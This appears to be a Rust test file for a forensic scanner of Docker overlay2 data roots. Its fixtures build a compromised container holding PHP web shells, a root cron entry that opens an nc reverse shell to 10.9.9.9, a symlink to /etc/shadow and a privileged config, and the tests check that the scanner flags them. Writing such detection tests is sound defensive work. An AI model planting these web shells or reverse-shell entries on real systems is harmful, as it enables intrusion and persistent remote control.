//! Docker data roots built in code: a hostile and broken root (garbage metadata, a config
//! that does not hash to its id, a missing layer directory, links pointing out of the
//! evidence) still gives every container and change it can, with a diagnostic naming each
//! problem; the report validates against the schema; the evidence is never written.

use std::path::Path;

use serde_json::{json, Value};
use sha2::Digest;

use crate::util::{run_json, validate_against_schema, write_files};

fn sha(b: &[u8]) -> String {
    sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect()
}

const CID: &str = "1111111111111111111111111111111111111111111111111111111111111111";
const CID2: &str = "2222222222222222222222222222222222222222222222222222222222222222";
const CACHE: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const MOUNT: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

/// A small overlay2 root: one image of one layer, a container that dropped a web shell and
/// a cron entry; `broken` adds what a hostile or damaged root has.
pub(crate) fn build(dir: &Path, broken: bool) -> (String, String) {
    let diff = format!("sha256:{}", sha(b"layer"));
    let config = serde_json::to_vec(&json!({
        "architecture": "amd64", "os": "linux", "created": "2026-11-01T00:00:00Z",
        "config": {"Cmd": ["httpd"]},
        "history": [{"created": "2026-11-01T00:00:00Z", "created_by": "ADD rootfs /"}],
        "rootfs": {"type": "layers", "diff_ids": [diff]},
    }))
    .unwrap();
    let id = sha(&config);
    let d = "var/lib/docker";
    let conf = |cid: &str, name: &str| {
        serde_json::to_vec(&json!({
            "ID": cid, "Name": format!("/{name}"), "Image": format!("sha256:{id}"),
            "Created": "2026-11-02T00:00:00Z", "Path": "httpd", "Args": [],
            "Config": {"Image": "web:1", "Cmd": ["httpd"]},
            "State": {"Running": true, "StartedAt": "2026-11-02T00:00:01Z"},
            "Driver": "overlay2",
            "MountPoints": {"/var/www/uploads": {
                "Type": "volume", "Name": "uploads", "Destination": "/var/www/uploads",
                "Source": "/var/lib/docker/volumes/uploads/_data", "RW": true, "Driver": "local"}},
        }))
        .unwrap()
    };
    let c1 = conf(CID, "web");
    let mut files: Vec<(String, Vec<u8>)> = vec![
        (format!("{d}/image/overlay2/imagedb/content/sha256/{id}"), config.clone()),
        (format!("{d}/image/overlay2/layerdb/sha256/{}/diff", &diff[7..]), diff.clone().into_bytes()),
        (format!("{d}/image/overlay2/layerdb/sha256/{}/cache-id", &diff[7..]), CACHE.into()),
        (format!("{d}/image/overlay2/layerdb/mounts/{CID}/mount-id"), MOUNT.into()),
        (format!("{d}/image/overlay2/layerdb/mounts/{CID}/init-id"), format!("{MOUNT}-init").into_bytes()),
        (format!("{d}/overlay2/{CACHE}/diff/bin/sh"), b"\x7fELF busybox".to_vec()),
        (format!("{d}/overlay2/{CACHE}/diff/var/www/index.html"), b"<html>shop</html>".to_vec()),
        (format!("{d}/overlay2/{CACHE}/link"), b"ABCDEFGHIJKLMNOPQRSTUVWXYZ".to_vec()),
        (format!("{d}/overlay2/{MOUNT}-init/diff/etc/hosts"), vec![]),
        (format!("{d}/overlay2/{MOUNT}/diff/var/www/shell.php"), b"<?php system($_GET['c']); ?>".to_vec()),
        (format!("{d}/overlay2/{MOUNT}/diff/var/www/uploads/.keep"), vec![]),
        (format!("{d}/volumes/uploads/_data/cmd.php"), b"<?php passthru($_REQUEST['x']); ?>".to_vec()),
        (format!("{d}/overlay2/{MOUNT}/diff/var/spool/cron/crontabs/root"), b"* * * * * nc 10.9.9.9 4444 -e sh\n".to_vec()),
        (format!("{d}/containers/{CID}/config.v2.json"), c1),
        (format!("{d}/containers/{CID}/hostconfig.json"), br#"{"Privileged": true}"#.to_vec()),
        (
            format!("{d}/containers/{CID}/{CID}-json.log"),
            b"{\"log\":\"GET /shell.php?c=id HTTP/1.1\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-02T00:01:00Z\"}\n".to_vec(),
        ),
        (
            format!("{d}/image/overlay2/repositories.json"),
            serde_json::to_vec(&json!({"Repositories": {"web": {"web:1": format!("sha256:{id}")}}})).unwrap(),
        ),
    ];
    if broken {
        // A second container whose config is garbage, a tag for an absent image, an image
        // config whose bytes do not hash to its name, a layer whose directory is gone.
        files.push((format!("{d}/containers/{CID2}/config.v2.json"), b"{\"ID\": garbage".to_vec()));
        // overlay2's own record of the chain: one short link escapes, the init layer is left out.
        files
            .push((format!("{d}/overlay2/{MOUNT}/lower"), b"l/ESCAPE:l/ABCDEFGHIJKLMNOPQRSTUVWXYZ".to_vec()));
        let bad = br#"{"rootfs":{"type":"layers","diff_ids":["sha256:0000000000000000000000000000000000000000000000000000000000000000"]}}"#;
        let fake = "f".repeat(64);
        files.push((format!("{d}/image/overlay2/imagedb/content/sha256/{fake}"), bad.to_vec()));
        files.retain(|(p, _)| !p.ends_with("repositories.json"));
        files.push((
            format!("{d}/image/overlay2/repositories.json"),
            serde_json::to_vec(&json!({"Repositories": {"web": {"web:1": format!("sha256:{id}"), "gone:1": "sha256:".to_string() + &"e".repeat(64)}}})).unwrap(),
        ));
    }
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    write_files(dir, &refs);
    // Links out of the evidence: a layer's symlink to the host's shadow, a short link.
    std::os::unix::fs::symlink("/etc/shadow", dir.join(format!("{d}/overlay2/{MOUNT}/diff/var/www/leak")))
        .unwrap();
    std::fs::create_dir_all(dir.join(format!("{d}/overlay2/l"))).unwrap();
    std::os::unix::fs::symlink(
        format!("../{CACHE}/diff"),
        dir.join(format!("{d}/overlay2/l/ABCDEFGHIJKLMNOPQRSTUVWXYZ")),
    )
    .unwrap();
    std::os::unix::fs::symlink("/", dir.join(format!("{d}/overlay2/l/ESCAPE"))).unwrap();
    (format!("sha256:{id}"), format!("{d}/overlay2/{MOUNT}"))
}

fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>, Option<std::time::SystemTime>)> {
    let mut v = vec![];
    for e in walkdir::WalkDir::new(dir).follow_links(false).sort_by_file_name() {
        let e = e.unwrap();
        let m = e.path().symlink_metadata().unwrap();
        let body = if m.is_file() { std::fs::read(e.path()).unwrap() } else { vec![] };
        v.push((e.path().display().to_string(), body, m.modified().ok()));
    }
    v
}

fn bundle(v: &Value) -> &Value {
    &v["bundles"][0]
}

#[test]
fn a_data_root_gives_its_containers_changes_and_findings() {
    let dir = tempfile::tempdir().unwrap();
    let (image_id, upper) = build(dir.path(), false);
    let before = snapshot(dir.path());
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "high findings, nothing unreadable");
    validate_against_schema(&v);
    assert_eq!(before, snapshot(dir.path()), "the evidence was written to");
    let b = bundle(&v);
    let r = &b["data_root"]["docker"][0];
    assert_eq!(r["root"], "var/lib/docker");
    let c = &r["containers"][0];
    assert_eq!((c["name"].as_str(), c["running"].as_bool()), (Some("web"), Some(true)));
    assert_eq!(c["image_id"], image_id.as_str());
    assert_eq!(c["upper_dir"], format!("{upper}/diff"));
    let ch = &b["data_root_changes"][0];
    let paths: Vec<&str> =
        ch["changes"].as_array().unwrap().iter().map(|l| l["path"].as_str().unwrap()).collect();
    assert!(
        paths.contains(&"/var/www/shell.php") && paths.contains(&"/var/spool/cron/crontabs/root"),
        "{paths:?}"
    );
    // The -init layer is applied, never reported as the container's change; nor is what is
    // below a mount point.
    assert!(!paths.contains(&"/etc/hosts"), "{paths:?}");
    assert!(!paths.iter().any(|p| p.starts_with("/var/www/uploads/")), "{paths:?}");
    // The volume's files are reported on their own, at the mount point, and the rules see them.
    let vol = b["data_root_changes"].as_array().unwrap().iter().find(|c| c["source"] == "volume").unwrap();
    assert_eq!(vol["container"], CID);
    assert_eq!(vol["changes"][0]["path"], "/var/www/uploads/cmd.php");
    let shells: Vec<&Value> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"].as_str().unwrap_or("").starts_with("file.webshell"))
        .collect();
    assert!(
        shells.iter().any(|f| f.to_string().contains("/var/www/uploads/cmd.php")),
        "the volume's web shell: {shells:?}"
    );
    let rules: Vec<&str> =
        b["findings"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
    assert!(rules.iter().any(|r| r.starts_with("file.webshell")), "{rules:?}");
    assert!(rules.contains(&"file.persistence.cron"), "{rules:?}");
    assert!(rules.iter().any(|r| r.contains("privileged")), "the host config is attached: {rules:?}");
    // The link out of the evidence is recorded as a link, never followed.
    let leak = b["file_changes"].as_array().unwrap().iter().find(|f| f["path"] == "/var/www/leak").unwrap();
    assert_eq!((leak["type"].as_str(), leak["link_target"].as_str()), (Some("symlink"), Some("/etc/shadow")));
    assert!(leak["sha256"].is_null());
    // Few artifacts: layer directories (and the short links) are one each.
    let arts = b["artifacts"].as_array().unwrap();
    let dirs: Vec<&str> =
        arts.iter().filter(|a| a["kind"] == "layer-dir").map(|a| a["path"].as_str().unwrap()).collect();
    assert_eq!(dirs.len(), 5, "{dirs:?}");
    assert!(arts.iter().all(|a| !a["path"].as_str().unwrap().contains("/diff/")));
    // The container's log is scanned as its log.
    assert!(arts.iter().any(|a| a["kind"] == "json-file-log"));
    // Timeline: the container's file changes at their mtimes.
    let tl = b["timeline"].as_array().unwrap();
    assert!(tl.iter().any(|e| e["timestamp_desc"] == "file mtime (container read-write layer)"));
}

#[test]
fn a_broken_data_root_says_what_is_wrong_and_reads_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    build(dir.path(), true);
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code & 2, 2, "unreadable evidence is reported in the exit code");
    validate_against_schema(&v);
    let b = bundle(&v);
    let msgs: Vec<String> = b["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["message"].as_str().unwrap().to_string())
        .collect();
    let has = |s: &str| msgs.iter().any(|m| m.contains(s));
    assert!(has("content hashes to"), "config vs its id: {msgs:?}");
    assert!(has("whose config is not in imagedb"), "dangling tag: {msgs:?}");
    assert!(has("no cache-id"), "layer without its directory: {msgs:?}");
    assert!(has("short link ESCAPE points to / (not a layer of this data root): not followed"), "{msgs:?}");
    assert!(has("overlay2's lower chain"), "lower vs layer store: {msgs:?}");
    // The good container is still fully analysed.
    let r = &b["data_root"]["docker"][0];
    let web = r["containers"].as_array().unwrap().iter().find(|c| c["id"] == CID).unwrap();
    assert_eq!(web["lower_dirs"], json!([format!("var/lib/docker/overlay2/{CACHE}/diff")]));
    assert_eq!(r["containers"].as_array().unwrap().len(), 2);
    let ch = b["data_root_changes"].as_array().unwrap();
    assert!(ch.iter().any(|c| c["container"] == CID && !c["changes"].as_array().unwrap().is_empty()));
    let rules: Vec<&str> =
        b["findings"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
    assert!(rules.contains(&"file.persistence.cron"), "{rules:?}");
}

#[test]
fn a_tar_of_the_root_reads_the_same() {
    let dir = tempfile::tempdir().unwrap();
    build(dir.path(), false);
    let tar = dir.path().join("root.tar");
    let st = std::process::Command::new("tar")
        .args(["--sort=name", "-cf"])
        .arg(&tar)
        .arg("-C")
        .arg(dir.path())
        .arg("var")
        .status()
        .unwrap();
    assert!(st.success());
    let (a, _) = run_json(&["scan", dir.path().join("var/lib/docker").to_str().unwrap()]);
    let (t, _) = run_json(&["scan", tar.to_str().unwrap()]);
    let lines = |v: &Value| -> Vec<String> {
        bundle(v)["data_root_changes"][0]["changes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l.to_string())
            .collect()
    };
    assert_eq!(lines(&a), lines(&t));
    assert!(!lines(&a).is_empty());
    let digests = |v: &Value| -> Vec<(String, String)> {
        bundle(v)["artifacts"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|x| x["kind"] == "layer-dir")
            .map(|x| {
                let p = x["path"].as_str().unwrap();
                (
                    p.trim_start_matches("var/lib/docker/").to_string(),
                    x["sha256"].as_str().unwrap_or("").to_string(),
                )
            })
            .collect()
    };
    assert_eq!(digests(&a), digests(&t));
}
